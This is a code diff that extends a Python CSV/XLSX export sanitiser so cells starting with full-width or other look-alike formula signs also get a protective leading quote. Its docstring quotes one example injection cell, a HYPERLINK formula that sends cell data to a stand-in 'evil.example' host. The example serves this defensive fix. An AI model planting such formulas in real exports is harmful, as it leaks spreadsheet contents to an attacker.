@@ -5,7 +5,9 @@ program runs a cell such as `=HYPERLINK("http://evil.example/?d="&A2,"Click")` a
 when the file is opened. So, for every download of the site, CSV and XLSX alike:
 - a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single
   quote in front (OWASP's advice for CSV injection), which spreadsheet programs read as "this
-  is text". Numbers (negative ones too) are written as they are.
+  is text". So does one that starts with a look-alike of them: the start is read after NFKC
+  (full-width `＝ ＋ － ＠`, the small, superscript and subscript forms become the signs), and
+  the minus sign U+2212 counts as `-`. Numbers (negative ones too) are written as they are.
 - XLSX: each text cell is also written with its data type set to string (`t="inlineStr"`), so
   a leading `=` is shown, not evaluated. The quote is still needed there: a cell re-edited in a
   spreadsheet program, or the sheet saved as CSV, is read anew, and `=…` becomes a formula.
@@ -20,13 +22,14 @@ from __future__ import annotations
 import csv
 import datetime
 import io
+import unicodedata
 from collections.abc import Iterable, Sequence
 from decimal import Decimal
 from typing import Any, TypeGuard
 
 from import_export.formats import base_formats
 
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\u2212")
 # Excel's limits for a sheet's title: 31 characters, none of these.
 _SHEET_TITLE_FORBIDDEN = str.maketrans(dict.fromkeys("[]:*?/\\", "-"))
 _MAX_COLUMN_WIDTH = 60
@@ -41,8 +44,9 @@ def is_number(value: object) -> TypeGuard[int | float | Decimal]:
 
 def text_cell(text: str) -> str:
     """`text` as a spreadsheet's text cell holds it: with a single quote in front if it starts
-    like a formula (`"=1+2"` becomes `"'=1+2"`, `"-2"` becomes `"'-2"`), else unchanged."""
-    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
+    like a formula, look-alikes included (`"=1+2"` becomes `"'=1+2"`, `"-2"` becomes `"'-2"`,
+    `"＝1+2"` becomes `"'＝1+2"`), else unchanged."""
+    return f"'{text}" if unicodedata.normalize("NFKC", text).startswith(FORMULA_STARTS) else text
 
 
 def csv_cell(value: object) -> object:
